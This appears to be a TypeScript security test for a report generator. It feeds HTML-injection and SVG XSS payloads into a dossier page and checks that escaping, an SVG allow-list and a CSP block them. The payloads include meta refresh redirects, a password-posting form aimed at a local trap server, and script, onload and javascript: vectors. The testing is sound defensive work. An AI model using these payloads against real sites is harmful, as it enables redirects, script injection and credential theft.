// HTML injection into the downloaded dossier (issue 23 item 4), tried in Debian's Chromium: a
// generator that closes its attribute, a product name that closes the title, a pushed perimeter SVG
// with <meta http-equiv="refresh">, a form after </svg>, links, external images and styles. Opened
// from disk as an auditor would, the page must stay where it is, hold no form, fetch nothing, and
// refuse to post a form even when one is made in it (CSP form-action 'none').
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { buildServer } from '../src/server/app.ts';
import { portfolioStore } from '../src/server/store/portfolio.ts';
import { sqliteSql } from '../src/server/store/sqlite.ts';
import { dossierHtml } from '../src/report/dossier-html.ts';
import { safeSvg } from '../src/report/safe-svg.ts';
import { chromiumPath } from '../src/report/pdf.ts';
import { escapeHtmlAttr, escapeHtmlText } from '../src/util/html.ts';

const executablePath = chromiumPath();
if (!executablePath && process.env['CI']) throw new Error('Chromium is not installed; .ci/run installs Debian\'s chromium');

// Every request the page makes to "elsewhere" lands here.
const hits: string[] = [];
const trap = createServer((req: IncomingMessage, res) => { hits.push(`${req.method} ${req.url}`); res.end('pwned'); });
let browser: Browser | undefined;
let elsewhere = '';
before(async () => {
  await new Promise<void>((r) => trap.listen(0, '127.0.0.1', r));
  elsewhere = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  if (!executablePath) return;
  const { chromium } = await import('playwright-core');
  browser = await chromium.launch({ executablePath, args: ['--headless', '--no-sandbox'] });
});
after(async () => { await browser?.close(); trap.close(); });

const MINIMAL = {
  generatedAt: '2026-11-26T00:00:00.000Z', generator: 'Marque test', product: { name: 'p', version: '1' },
  profile: { scope: { inScope: true, reasons: [] }, role: 'manufacturer', class: 'default', categories: [], conformityRoutes: [], obligations: [], uncertainties: [], notes: [], dates: [], wouldChange: [], penalties: [] },
  support: { periodEnd: null, placedOnMarket: null, platforms: [] }, sbom: { missing: 'test' }, findings: { missing: 'test' }, checklist: [],
  perimeter: { missing: 'test' }, assessments: { missing: 'test' }, inputs: [], digest: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
};

/** `links`: with links and external images too (the server refuses those outright; the rest it rebuilds). */
function hostile(links = true): Record<string, unknown> {
  const go = `0;url=${elsewhere}/refresh`;
  return {
    ...MINIMAL,
    // Both quote styles and an unquoted form: none may leave the content attribute.
    generator: `Marque" http-equiv="refresh" content="${go}" x=' onload='1`,
    product: { name: `</title><meta http-equiv="refresh" content="${go}"><title>`, version: `1" data-x='<b>` },
    perimeter: {
      svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><meta http-equiv="refresh" content="${go}"/>`
        + (links ? `<a xlink:href="${elsewhere}/link"><text>picture</text></a><image href="${elsewhere}/img.png"/>` : '<text>picture</text>') + `<style>@import url(${elsewhere}/css);</style>`
        + `<g fill="url(${elsewhere}/paint)"><rect width="5" height="5"/></g></svg>`
        + `<form id="steal" action="${elsewhere}/steal" method="post"><input type="password" name="p" value="hunter2"><button>go</button></form>` + (links ? `<base href="${elsewhere}/">` : ''),
      compartments: [], perimeter: [], outside: [], properties: [],
    },
  };
}

async function open(html: string): Promise<{ url: string; forms: number; metaRefresh: number; generator: string | null; title: string; posted: boolean }> {
  const page = await browser!.newPage();
  const file = join(mkdtempSync(join(tmpdir(), 'marque-inject-')), 'dossier.html');
  writeFileSync(file, html);
  await page.goto(`file://${file}`);
  await page.waitForTimeout(1500);
  const seen = await page.evaluate(() => ({
    forms: document.querySelectorAll('form, input, button[form], base').length,
    metaRefresh: document.querySelectorAll('meta[http-equiv]:not([http-equiv="Content-Security-Policy"])').length,
    generator: document.querySelector('meta[name="generator"]')?.getAttribute('content') ?? null,
    title: document.title,
  }));
  // A form made in the page by the test (page.evaluate is not bound by script-src): form-action 'none' stops its post.
  await page.evaluate((to: string) => {
    const f = document.createElement('form');
    f.action = `${to}/posted`; f.method = 'post';
    document.body.append(f);
    f.submit();
  }, elsewhere);
  await page.waitForTimeout(1000);
  const url = page.url();
  await page.close();
  return { url, ...seen, posted: hits.some((h) => h.includes('/posted')) };
}

test('one escaping function per context: text cannot open a tag, an attribute value cannot close its quotes', () => {
  assert.equal(escapeHtmlText('<b>&"\''), '&lt;b&gt;&amp;"\'');
  assert.equal(escapeHtmlAttr('"\'<>&'), '&quot;&#39;&lt;&gt;&amp;');
});

test('the SVG allow-list keeps a Graphviz picture and drops what loads, runs, posts or redirects', () => {
  const kept = safeSvg('<svg width="8pt" height="8pt" viewBox="0 0 8 8" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g id="n" class="node"><title>a&lt;b</title><g id="a_n"><a xlink:title="tip"><ellipse fill="none" stroke="red" cx="1" cy="1" rx="1" ry="1"/><text text-anchor="middle" x="1" y="1" font-family="Times,serif" font-size="14.00">a</text></a></g></g></svg>');
  for (const s of ['viewBox="0 0 8 8"', '<title>a&lt;b</title>', 'xlink:title="tip"', 'text-anchor="middle"', '<ellipse']) assert.ok(kept.includes(s), s);
  const dropped = safeSvg(String((hostile()['perimeter'] as { svg: string }).svg));
  for (const bad of ['meta', 'refresh', 'href', 'image', 'style', '@import', 'url(', 'form', 'input', 'base', 'hunter2', elsewhere]) assert.ok(!dropped.includes(bad), `${bad}: ${dropped}`);
  for (const v of ['<svg onload="alert(1)"/>', '<svg><script>alert(1)</script></svg>', '<svg><foreignObject><iframe src="//x"></iframe></foreignObject></svg>', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="href"/></svg>', '<SVG><SCRIPT>alert(1)</SCRIPT></SVG>']) {
    assert.ok(!/script|onload|javascript|iframe|<set|<animate/i.test(safeSvg(v)), v);
  }
});

test('the dossier written by "marque report" with hostile values: Chromium stays on the page, sends nothing, shows no form', async (t) => {
  if (!browser) { t.skip('Chromium not installed (.ci/run installs it)'); return; }
  hits.length = 0;
  const d = hostile();
  const r = await open(dossierHtml(d as never));
  assert.match(r.url, /^file:/, 'no refresh took the page elsewhere');
  assert.equal(r.forms, 0);
  assert.equal(r.metaRefresh, 0);
  assert.equal(r.generator, d['generator'], 'the generator is kept whole as the attribute value');
  assert.ok(r.title.includes('</title>'), 'the product name is title text');
  assert.equal(r.posted, false, 'form-action none');
  assert.deepEqual(hits, []);
});

test('the dossier pushed to the server and downloaded (GET dossier.html): the picture is rebuilt, the CSP is sent as a header too', async (t) => {
  const store = portfolioStore(sqliteSql(join(mkdtempSync(join(tmpdir(), 'marque-inject-server-')), 'marque.sqlite')));
  await store.migrate();
  const team = await store.createTeam('acme');
  const token = (await store.createToken(team.id, 'admin', 'lead@acme')).token;
  const app = await buildServer(store);
  const call = (method: string, url: string, payload?: unknown) => app.inject({ method: method as 'GET', url, headers: { authorization: `Bearer ${token}` }, payload: payload as never });
  const product = (await call('POST', '/api/v1/products', { name: 'p' })).json();
  const rel = (await call('POST', `/api/v1/products/${product.id}/releases?version=1`, { bomFormat: 'CycloneDX', specVersion: '1.6', version: 1, components: [] })).json();
  const put = await call('PUT', `/api/v1/releases/${rel.id}/dossier`, hostile(false));
  assert.equal(put.statusCode, 204, put.body);
  const kept = (await call('GET', `/api/v1/releases/${rel.id}/dossier`)).json();
  for (const bad of ['meta', 'refresh', '<form', 'hunter2', elsewhere]) assert.ok(!kept.dossier.perimeter.svg.includes(bad), bad);
  const file = await call('GET', `/api/v1/releases/${rel.id}/dossier.html`);
  assert.equal(file.statusCode, 200);
  const csp = String(file.headers['content-security-policy']);
  for (const d of ["form-action 'none'", "base-uri 'none'", "frame-ancestors 'none'", "default-src 'none'"]) assert.ok(csp.includes(d), d);
  await app.close();
  if (!browser) { t.skip('Chromium not installed (.ci/run installs it)'); return; }
  hits.length = 0;
  const r = await open(file.body);
  assert.match(r.url, /^file:/);
  assert.equal(r.forms + r.metaRefresh, 0);
  assert.equal(r.posted, false);
  assert.deepEqual(hits, []);
});
